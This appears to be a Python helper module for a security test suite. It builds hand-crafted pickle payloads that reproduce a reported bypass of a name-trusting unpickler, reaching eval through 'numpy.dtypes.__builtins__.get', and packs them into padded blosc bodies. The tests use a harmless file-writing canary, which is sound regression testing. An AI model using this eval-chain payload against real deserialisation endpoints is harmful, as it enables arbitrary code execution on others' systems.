"""Hand-built pickles that run code on an unpickler that trusts names (what the report found), and
the blosc-python bodies that carry them."""

from __future__ import annotations

import struct

import blosc
import numpy as np


def pickle_text(s: str) -> bytes:
    raw = s.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def eval_through_numpy_dtypes(code: str) -> bytes:
    """Protocol 4 follows a dotted name from an allowed module: `numpy.dtypes.__builtins__.get`
    is the builtins dict's `get`; `get('eval')` is eval; eval(code) runs it."""
    return (b"\x80\x04" + pickle_text("numpy.dtypes") + pickle_text("__builtins__.get") + b"\x93"
            + pickle_text("eval") + b"\x85R" + pickle_text(code) + b"\x85R.")


def canary_call(module: str = "tests.security.canary", name: str = "touch") -> bytes:
    """A plain global call: the module named is imported and its function called."""
    return b"\x80\x04" + pickle_text(module) + pickle_text(name) + b"\x93" + pickle_text("x") + b"\x85R."


def canary_code(marker: str) -> str:
    return f"open({marker!r}, 'w').write('code ran')"


def as_body(pickled: bytes, shape: tuple[int, ...], dtype: np.dtype) -> bytes:
    """A blosc-python body for the box: the pickle padded to the box's size (what an unpickler
    reads ends at STOP; the size check of the framing passes)."""
    need = int(np.prod(shape)) * dtype.itemsize
    return blosc.compress(pickled + bytes(max(0, need - len(pickled))), typesize=1)  # type: ignore[no-any-return]
